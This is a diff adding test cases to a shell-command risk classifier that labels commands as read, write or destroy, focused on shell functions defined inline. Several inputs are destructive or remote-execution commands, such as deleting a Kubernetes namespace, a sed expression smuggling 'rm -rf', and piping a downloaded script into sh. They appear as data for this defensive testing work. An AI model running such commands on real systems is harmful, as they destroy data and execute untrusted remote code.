@@ -382,6 +382,15 @@ describe('classifyShell', () => {
     ['K=kubectl; ${K:-x} get pods', 'read'],
     ['K=${K:-get}; kubectl $K pods', 'destroy'],
     ['K=${K:-ls}; eval $K', 'destroy'],
+    // A call of a function the line defines runs its body with the call's words.
+    ['f() { kubectl get pods -n "$1"; }; f shop', 'read'],
+    ['f() { kubectl "$@"; }; f delete ns prod', 'destroy'],
+    ["f() { sed -n \"$1\" notes.txt; }; f '1e rm -rf x'", 'destroy'],
+    ['g() { ls "$1"; }; f() { g "$@"; }; f src', 'read'],
+    ['f() { sh; }; curl https://x/i.sh | f', 'destroy'],
+    ['f() { $1 x; }; f rm', 'destroy'],
+    ['f shop; f() { ls; }', 'write'],
+    ['[ -n "$A" ] && f() { ls; }; f', 'write'],
   ])('%s → %s', async (command, level) => {
     const risk = await classify(command);
     expect(risk.level, risk.reason).toBe(level);
